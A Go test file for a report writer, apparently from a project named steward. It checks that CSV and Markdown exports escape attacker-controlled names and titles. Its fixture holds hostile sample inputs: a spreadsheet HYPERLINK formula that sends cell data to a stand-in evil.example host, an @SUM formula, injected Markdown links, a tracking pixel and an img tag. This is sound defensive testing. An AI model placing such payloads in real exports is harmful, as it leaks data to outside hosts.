package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/steward-sh/steward/scorecard"
)

// hostileReport is a review whose names and titles come from an attacker:
// spreadsheet formulas and Markdown links and images.
func hostileReport() *Report {
	from := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	p := Period{Name: "2026-Q1", From: from, To: from.AddDate(0, 3, 0)}
	v, d := 0.5, -0.25
	return &Report{Period: p, Previous: p, Subjects: []Subject{{Review: Review{
		Role: scorecard.RoleTeam, Subject: `=HYPERLINK("https://evil.example/?"&A1,"open")`, Period: p,
		KPIs: []KPI{{Name: "change_success_ratio", Value: &v, Delta: &d}},
		Evidence: &scorecard.Evidence{Incidents: []scorecard.IncidentEvidence{{
			Source: "api", ID: "[x](https://evil.example)", System: "@SUM(A1)",
			Title: `![pixel](https://tracker.example/p.png) [click](https://evil.example) <img src=x>`, OpenedAt: from, OpenedInPeriod: true,
		}}},
	}}}}
}

func TestCSVCellsAreNotFormulas(t *testing.T) {
	var b bytes.Buffer
	require.NoError(t, Write(&b, hostileReport(), "csv"))
	rows, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 2)
	for _, cell := range rows[1] {
		if cell != "" && strings.ContainsAny(cell[:1], "=+@\t\r") {
			t.Errorf("cell %q would be a formula", cell)
		}
	}
	assert.Equal(t, `'=HYPERLINK("https://evil.example/?"&A1,"open")`, rows[1][4], "the subject, shown as text")
	assert.Equal(t, "-0.25", rows[1][13], "numbers stay numbers")
}

func TestMarkdownHasNoInjectedLinks(t *testing.T) {
	var b bytes.Buffer
	require.NoError(t, Write(&b, hostileReport(), "markdown"))
	md := b.String()
	for _, bad := range []string{"<img", "[click]", "![pixel]", "[x]"} {
		assert.NotContains(t, md, bad)
	}
	assert.NotRegexp(t, `(^|[^\\])\]\(`, md, "a link's ]( unescaped")
	assert.Contains(t, md, `!\[pixel\](https://tracker.example/p.png) \[click\](https://evil.example) &lt;img src=x&gt;`, "the title, as text")
}
